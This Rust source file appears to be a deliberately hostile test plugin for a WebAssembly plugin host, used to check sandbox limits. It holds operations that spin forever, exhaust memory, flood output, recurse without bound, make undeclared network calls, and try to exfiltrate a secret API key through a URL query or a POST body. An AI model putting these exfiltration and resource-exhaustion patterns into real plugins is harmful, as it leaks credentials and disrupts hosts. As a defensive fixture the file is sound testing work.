//! A plugin that misbehaves on purpose, one operation per way of misbehaving. It is written
//! against the raw WIT bindings, not the SDK, as a hostile author would: it controls its exports'
//! bytes exactly (output that is not JSON, output that lies about its schema).
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code, reason = "generated canonical-ABI glue")]
mod guest {
    wit_bindgen::generate!({ world: "plugin", path: "../../../wit" });

    use std::hint::black_box;
    use weft::plugin::http::{self, Method, Request};
    use weft::plugin::types::{Capabilities, Operation, PermanentError};

    struct Hostile;

    const OPERATIONS: &[&str] = &[
        "spin",
        "hog",
        "flood",
        "panic",
        "recurse",
        "sneak",
        "exfil-query",
        "exfil-echo",
        "not-json",
        "lie",
        "nul",
        "nul-error",
        "ok",
    ];

    impl Guest for Hostile {
        fn describe() -> Manifest {
            let any = r#"{"type":"object"}"#.to_string();
            Manifest {
                name: "hostile".into(),
                version: "0.1.0".into(),
                description: "Misbehaves on purpose".into(),
                operations: OPERATIONS
                    .iter()
                    .map(|name| Operation {
                        name: (*name).into(),
                        description: String::new(),
                        input_schema: any.clone(),
                        // `lie` declares an object with a required integer and returns otherwise.
                        output_schema: if *name == "lie" {
                            r#"{"type":"object","required":["count"],"properties":{"count":{"type":"integer"}}}"#.into()
                        } else {
                            "{}".into()
                        },
                        compensated_by: None,
                    })
                    .collect(),
                capabilities: Capabilities {
                    outbound_hosts: vec![],
                    secrets: vec!["api-key".into()],
                    config_keys: vec![],
                },
            }
        }

        fn invoke(operation: String, input: String) -> Result<String, PluginError> {
            let arg: serde_json::Value = serde_json::from_str(&input).unwrap_or_default();
            let url = arg["url"].as_str().unwrap_or_default().to_string();
            match operation.as_str() {
                "spin" => {
                    let mut n: u64 = 0;
                    loop {
                        n = black_box(n.wrapping_add(1));
                    }
                }
                "hog" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(black_box(vec![1u8; 1 << 20]));
                        black_box(&hoard);
                    }
                }
                "flood" => {
                    let bytes = arg["bytes"].as_u64().unwrap_or(64 << 20) as usize;
                    Ok(format!("\"{}\"", "x".repeat(bytes)))
                }
                "panic" => panic!("the hostile plugin gave up on purpose"),
                "recurse" => Ok(recurse(0, arg["depth"].as_u64().unwrap_or(u64::MAX)).to_string()),
                "sneak" => send(Method::Get, &url, None).map(|r| r.to_string()),
                "exfil-query" => send(
                    Method::Get,
                    &format!("{url}?key={{{{secret:api-key}}}}"),
                    None,
                )
                .map(|r| r.to_string()),
                "exfil-echo" => {
                    // The echo server sends the substituted secret back; output it.
                    send(
                        Method::Post,
                        &url,
                        Some(b"stolen={{secret:api-key}}".to_vec()),
                    )
                    .map(|body| serde_json::json!({ "body": body }).to_string())
                }
                "not-json" => Ok("this is { not json".into()),
                "lie" => Ok(r#"{"count":"many"}"#.into()),
                // U+0000, which PostgreSQL cannot store, in an output and in an error message.
                "nul" => Ok(r#"{"name":"a\u0000b"}"#.into()),
                "nul-error" => Err(PluginError::Permanent(PermanentError {
                    code: "nul".into(),
                    message: "before\0after".into(),
                })),
                "ok" => Ok(r#"{"ok":true}"#.into()),
                other => Err(PluginError::Permanent(PermanentError {
                    code: "unknown".into(),
                    message: format!("no operation {other}"),
                })),
            }
        }
    }

    /// Recursion on the wasm stack itself: no local has its address taken, so nothing goes to
    /// the shadow stack in linear memory, and the result mixes in non-associatively so LLVM
    /// cannot turn it into a loop.
    fn recurse(n: u64, limit: u64) -> u64 {
        if n == limit {
            return n;
        }
        let r = recurse(n + 1, limit);
        r ^ (r >> 3) ^ n
    }

    fn send(method: Method, url: &str, body: Option<Vec<u8>>) -> Result<String, PluginError> {
        let request = Request {
            method,
            url: url.into(),
            headers: vec![],
            body,
            timeout_ms: None,
        };
        match http::send(&request) {
            Ok(r) => Ok(String::from_utf8_lossy(&r.body).into_owned()),
            Err(e) => Err(PluginError::Permanent(PermanentError {
                code: "http".into(),
                message: format!("{e:?}"),
            })),
        }
    }

    export!(Hostile);
}
